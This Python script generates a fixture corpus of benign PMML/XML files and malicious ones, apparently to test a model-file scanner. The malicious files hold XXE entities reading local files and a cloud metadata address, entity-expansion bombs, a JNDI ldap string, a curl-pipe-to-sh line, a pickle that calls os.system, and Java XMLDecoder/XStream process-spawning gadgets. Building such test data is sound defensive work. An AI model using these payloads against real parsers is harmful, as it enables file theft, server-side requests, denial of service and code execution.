"""Writes malicious/ and benign/ of PMML and other XML anew. Needs nothing but Python.

The libraries that write PMML are programs in Java, R, SAS and SPSS; the benign documents follow what they write: headers,
name spaces, extensions, encodings. Payloads echo a word or name a file or address that does not exist.
"""
import base64
import gzip
import os
import pathlib
import pickle
import shutil

HERE = pathlib.Path(__file__).resolve().parent
GOOD = HERE / "benign"
BAD = HERE / "malicious"
for folder in (GOOD, BAD):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()

HEADER = '<Header copyright="Surety" description="a small model"><Application name="{app}" version="1.0"/><Timestamp>2026-01-01 00:00:00</Timestamp></Header>'
DICTIONARY = '<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/><DataField name="y" optype="continuous" dataType="double"/></DataDictionary>'
MINING = '<MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/></MiningSchema>'
REGRESSION = f'<RegressionModel modelName="m" functionName="regression">{MINING}<RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2"/></RegressionTable></RegressionModel>'
TREE = f'<TreeModel modelName="t" functionName="regression" splitCharacteristic="binarySplit">{MINING}<Node id="1"><True/><Node id="2" score="1"><SimplePredicate field="x" operator="lessOrEqual" value="0.5"/></Node><Node id="3" score="2"><CompoundPredicate booleanOperator="surrogate"><SimplePredicate field="x" operator="greaterThan" value="0.5"/><False/></CompoundPredicate></Node></Node></TreeModel>'
CLUSTERS = f'<ClusteringModel functionName="clustering" modelClass="centerBased" numberOfClusters="1">{MINING}<ComparisonMeasure kind="distance"><squaredEuclidean/></ComparisonMeasure><ClusteringField field="x"/><Cluster name="1"><Array n="1" type="real">0.5</Array></Cluster></ClusteringModel>'
NETWORK = f'<NeuralNetwork functionName="regression" activationFunction="tanh">{MINING}<NeuralInputs><NeuralInput id="0"><DerivedField optype="continuous" dataType="double"><FieldRef field="x"/></DerivedField></NeuralInput></NeuralInputs><NeuralLayer><Neuron id="1" bias="0.1"><Con from="0" weight="1"/></Neuron></NeuralLayer></NeuralNetwork>'
TRANSFORM = '<TransformationDictionary><DefineFunction name="celsius" optype="continuous" dataType="double"><ParameterField name="f"/><Apply function="/"><Apply function="-"><FieldRef field="f"/><Constant dataType="double">32</Constant></Apply><Constant>1.8</Constant></Apply></DefineFunction><DerivedField name="z" optype="continuous" dataType="double"><Apply function="celsius"><FieldRef field="x"/></Apply></DerivedField><DerivedField name="w" optype="categorical" dataType="string"><Apply function="if"><Apply function="isMissing"><FieldRef field="x"/></Apply><Constant>none</Constant><Apply function="concat"><Apply function="uppercase"><FieldRef field="x"/></Apply><Apply function="formatNumber"><FieldRef field="x"/><Constant>%3d</Constant></Apply></Apply></Apply></DerivedField></TransformationDictionary>'


def pmml(*parts, version="4.4", space=True, extra="", app="surety"):
    name = f' xmlns="http://www.dmg.org/PMML-{version.replace(".", "_")}"' if space else ""
    return f'<PMML version="{version}"{name}{extra}>' + HEADER.format(app=app) + DICTIONARY + "".join(parts) + "</PMML>"


def good(name, text, declaration='<?xml version="1.0" encoding="UTF-8"?>\n', encoding="utf-8", mark=b""):
    (GOOD / name).write_bytes(mark + (declaration + text).encode(encoding))


def bad(name, text, declaration='<?xml version="1.0" encoding="UTF-8"?>\n', encoding="utf-8", mark=b""):
    (BAD / name).write_bytes(mark + (declaration + text).encode(encoding))


# ---- benign
JPMML = ' xmlns:data="http://jpmml.org/jpmml-model/InlineTable"'
XSI = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd"'
good("regression.pmml", pmml(REGRESSION))
good("tree.pmml", pmml(TREE, app="SkLearn2PMML package", extra=JPMML))
good("clusters.pmml", pmml(CLUSTERS, version="4.1", app="KNIME"))
good("network.pmml", pmml(NETWORK, version="3.2"))
good("transformations.pmml", pmml(TRANSFORM, REGRESSION))
good("schema_location.pmml", pmml(REGRESSION, extra=XSI))
good("no_namespace.pmml", pmml(REGRESSION, version="2.0", space=False))
good("no_declaration.pmml", pmml(REGRESSION), declaration="")
good("named_xml.xml", pmml(TREE))
good("named_txt.txt", pmml(TREE))
good("indented.pmml", pmml(REGRESSION).replace("><", ">\n  <"))
good("byte_order_mark.pmml", pmml(REGRESSION), mark=b"\xef\xbb\xbf")
good("utf_16.pmml", pmml(REGRESSION), declaration='<?xml version="1.0" encoding="UTF-16"?>', encoding="utf-16")
good("latin_1.pmml", pmml(REGRESSION).replace("a small model", "modèle réduit"), declaration='<?xml version="1.0" encoding="ISO-8859-1"?>', encoding="latin-1")
good("windows_1252.pmml", pmml(REGRESSION).replace("a small model", "modèle – réduit"), declaration='<?xml version="1.0" encoding="windows-1252"?>', encoding="cp1252")
good("ascii_standalone.pmml", pmml(REGRESSION), declaration='<?xml version="1.0" encoding="US-ASCII" standalone="yes"?>')
good("old_dtd.pmml", '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">\n' + pmml(REGRESSION, version="2.0", space=False))
good("extensions.pmml", pmml('<Extension name="modelID" value="churn-7" extender="SAS"/><Extension extender="X-MyLib"><X-notes xmlns="http://example.org/x">trained by the team; see the card</X-notes></Extension>', REGRESSION).replace("<DataDictionary", "<MiningBuildTask><Extension>PMMLPipeline(steps=[(\"scaler\", StandardScaler()),\n (\"classifier\", LogisticRegression())])</Extension></MiningBuildTask><DataDictionary", 1))
good("inline_table.pmml", pmml('<TransformationDictionary><DerivedField name="c" optype="categorical" dataType="string"><MapValues outputColumn="out"><FieldColumnPair field="x" column="in"/><InlineTable><row><in>a&amp;b</in><out>&lt;one&gt;</out></row><row><in>import</in><out>system</out></row></InlineTable></MapValues></DerivedField></TransformationDictionary>', REGRESSION))
good("text_values.pmml", pmml(TREE).replace('value="0.5"', 'value="operating system, open source; 50% off &amp; more"', 1))
good("comment_cdata.pmml", pmml('<!-- made by hand --><Extension><![CDATA[1 < 2 && "quoted"]]></Extension>', REGRESSION))
good("java_function.pmml", pmml('<TransformationDictionary><DerivedField name="z" optype="continuous" dataType="double"><Apply function="x-atan2"><FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>', REGRESSION))
good("wide.pmml", pmml(REGRESSION.replace('<NumericPredictor name="x" coefficient="2"/>', "".join(f'<NumericPredictor name="x{i}" coefficient="{i / 7}"/>' for i in range(300)))))
good("pom.xml", '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion><url>https://example.org</url></project>')
good("settings.xml", '<!DOCTYPE configuration PUBLIC "-//mybatis.org//DTD Config 3.0//EN" "http://mybatis.org/dtd/mybatis-3-config.dtd"><configuration><settings/></configuration>')
good("book.xml", '<!DOCTYPE book [<!ENTITY chapter SYSTEM "chapter1.xml"><!ENTITY name "Surety">]><book><title>&name;</title></book>')
good("icon.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1" height="1"/></svg>', declaration="")

# ---- attacks on the reader
bad("external_file.pmml", '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>' + pmml(REGRESSION).replace("a small model", "&amp;").replace("surety", "&xxe;", 1).replace('copyright="Surety"', ""))
bad("external_http.pmml", '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>' + pmml(f"<Extension>&xxe;</Extension>{REGRESSION}"))
bad("external_public.pmml", '<!DOCTYPE PMML [<!ENTITY xxe PUBLIC "any" "http://198.51.100.7/x">]>' + pmml(f"<Extension>&xxe;</Extension>{REGRESSION}"))
bad("external_unused.pmml", '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>' + pmml(REGRESSION))
bad("external_relative.pmml", '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "secret.txt">]>' + pmml(f"<Extension>&xxe;</Extension>{REGRESSION}"))
bad("parameter_entity.pmml", '<!DOCTYPE PMML [<!ENTITY % d SYSTEM "http://198.51.100.7/e.dtd"> %d;]>' + pmml(REGRESSION))
bad("parameter_internal.pmml", '<!DOCTYPE PMML [<!ENTITY % a "<!ENTITY b \'c\'>"> %a;]>' + pmml(REGRESSION))
bad("external_dtd.pmml", '<!DOCTYPE PMML SYSTEM "http://198.51.100.7/pmml.dtd">' + pmml(REGRESSION))
bad("external_dtd_file.pmml", '<!DOCTYPE PMML SYSTEM "file:///etc/surety.dtd">' + pmml(REGRESSION))
laughs = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
bad("billion_laughs.pmml", f"<!DOCTYPE PMML [{laughs}]>" + pmml(f"<Extension>&l9;</Extension>{REGRESSION}"))
bad("billion_laughs.xml", f"<!DOCTYPE data [{laughs}]><data>&l9;</data>")
bad("quadratic.pmml", f'<!DOCTYPE PMML [<!ENTITY a "{"a" * 3000}">]>' + pmml(f'<Extension>{"&a;" * 200}</Extension>{REGRESSION}'))
bad("entity_loop.pmml", '<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + pmml(f"<Extension>&a;</Extension>{REGRESSION}"))
bad("entity_hides_element.pmml", '<!DOCTYPE PMML [<!ENTITY e "<Extension>x</Extension>">]>' + pmml(f"&e;{REGRESSION}"))
bad("xinclude.pmml", pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>', REGRESSION))
bad("style_sheet.pmml", '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>' + pmml(REGRESSION))
bad("style_sheet_data.pmml", '<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cx/%3E"?>' + pmml(REGRESSION))
bad("xslt_inside.pmml", pmml('<Extension><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:value-of select="document(\'x\')"/></xsl:stylesheet></Extension>', REGRESSION))
bad("schema_file.pmml", pmml(REGRESSION, extra=XSI.replace("http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd", "file:///etc/surety.xsd")))
bad("utf_7.pmml", "+ADw-PMML version=+ACI-4.4+ACI-/+AD4-<PMML/>", declaration='<?xml version="1.0" encoding="UTF-7"?>')
bad("utf_16_entity.pmml", '<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>' + pmml(f"<Extension>&xxe;</Extension>{REGRESSION}"), declaration='<?xml version="1.0" encoding="UTF-16"?>', encoding="utf-16")
bad("ebcdic.pmml", pmml(REGRESSION), declaration='<?xml version="1.0" encoding="IBM037"?>')
bad("deep.pmml", pmml("<Extension>" * 6000 + "</Extension>" * 6000), declaration="")
bad("nul_bytes.pmml", pmml(REGRESSION).replace("a small model", "a\0model"))
bad("broken_off.pmml", pmml(REGRESSION)[:-60])
bad("two_roots.pmml", pmml(REGRESSION) + pmml(REGRESSION))
bad("external_named_xml.xml", '<!DOCTYPE data [<!ENTITY x SYSTEM "file:///etc/hostname">]><data>&x;</data>')
bad("external_named_config.xml", '<!DOCTYPE data [<!ENTITY % x SYSTEM "http://198.51.100.7/e.dtd">%x;]><data/>')

# ---- code in the model
class Echo:
    def __reduce__(self):
        return os.system, ("echo surety-corpus",)


PICKLE = base64.b64encode(pickle.dumps(Echo(), 4)).decode()
bad("extension_python.pmml", pmml("<Extension>__import__('os').system('echo surety')</Extension>", REGRESSION))
bad("extension_value.pmml", pmml('<Extension name="init" value="os.system(\'echo surety\')"/>', REGRESSION))
bad("extension_script.pmml", pmml('<Extension><script language="python">print(1)</script></Extension>', REGRESSION))
bad("extension_named_script.pmml", pmml('<Extension name="python-script" value="print(open(1))"/>', REGRESSION))
bad("extension_pickle.pmml", pmml(f"<Extension>{PICKLE}</Extension>", REGRESSION))
bad("extension_packed_pickle.pmml", pmml(f"<Extension>{base64.b64encode(gzip.compress(pickle.dumps(Echo(), 4), mtime=0)).decode()}</Extension>", REGRESSION))
bad("extension_long.pmml", pmml(f"<Extension>{' ' * 60000}os.system('echo surety')</Extension>", REGRESSION))
bad("extension_cdata.pmml", pmml("<Extension><![CDATA[Runtime.getRuntime().exec(\"id\")]]></Extension>", REGRESSION))
bad("extension_shell.pmml", pmml('<Extension extender="hook">curl http://198.51.100.7/x | sh</Extension>', REGRESSION))
bad("extension_characters.pmml", pmml("<Extension>os&#46;sys&#116;em('echo surety')</Extension>", REGRESSION))
bad("extension_jndi.pmml", pmml('<Extension name="n" value="${jndi:ldap://198.51.100.7/a}"/>', REGRESSION))
bad("html_script.pmml", pmml("<Extension>&lt;script&gt;alert(1)&lt;/script&gt;</Extension>", REGRESSION))
APPLY = '<TransformationDictionary><DerivedField name="z" optype="continuous" dataType="double"><Apply function="{}"><FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>'
for name, function in {"eval": "eval", "system": "system", "java_runtime": "java.lang.Runtime.exec", "java_scheme": "java:java.lang.ProcessBuilder", "foreign_class": "com.example.surety.Udf", "script_engine": "javax.script.ScriptEngineManager"}.items():
    bad(f"apply_{name}.pmml", pmml(APPLY.format(function), REGRESSION))
bad("table_locator.pmml", pmml('<TransformationDictionary><DerivedField name="c" optype="categorical" dataType="string"><MapValues outputColumn="o"><TableLocator><Extension name="url" value="jdbc:h2:mem:x;INIT=RUNSCRIPT FROM \'http://198.51.100.7/x.sql\'"/></TableLocator></MapValues></DerivedField></TransformationDictionary>', REGRESSION))
bad("instruction_php.pmml", pmml("<?php system('echo surety'); ?>", REGRESSION))
bad("xml_decoder.xml", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>')
bad("xstream.xml", '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>')
bad("pickle_named.bin", pmml("<Extension>subprocess.call('id')</Extension>", REGRESSION))
